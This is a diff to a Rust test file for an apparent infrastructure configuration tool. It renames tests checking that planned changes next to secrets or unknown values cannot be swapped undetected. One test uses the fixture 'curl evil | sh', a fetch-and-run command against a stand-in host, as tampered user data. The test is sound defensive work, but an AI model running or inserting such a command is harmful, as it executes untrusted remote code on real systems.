@@ -42,7 +42,7 @@ fn vm(locals: &str, user_data: &str) -> String {
 }
 
 #[test]
-fn a_text_beside_a_secret_cannot_be_swapped() {
+fn text_next_to_a_secret_cannot_be_swapped() {
     let case = Case::new().file("web.stead.yaml", app("https://old.example/${vars.s}")).emulator();
     ok(&case, "apply --yes");
     let planned = app("https://hooks.acme.example/${vars.s}");
@@ -56,7 +56,7 @@ fn a_text_beside_a_secret_cannot_be_swapped() {
 }
 
 #[test]
-fn a_local_beside_what_is_not_known_yet_cannot_be_swapped() {
+fn a_local_next_to_an_unknown_value_cannot_be_swapped() {
     let case = Case::new().emulator();
     let user_data = "${locals.x}${vpc.new.id}";
     swap(&case, &vm("echo ${vars.s}", user_data), &vm("curl evil | sh # ${vars.s}", user_data));
@@ -72,7 +72,7 @@ fn a_local_beside_what_is_not_known_yet_cannot_be_swapped() {
 }
 
 #[test]
-fn a_first_plan_is_known_by_its_expressions() {
+fn the_fingerprint_of_a_first_plan_covers_its_expressions() {
     let case = Case::new().emulator();
     let fingerprint = |user_data: &str| {
         case.write("web.stead.yaml", vm("x", user_data));
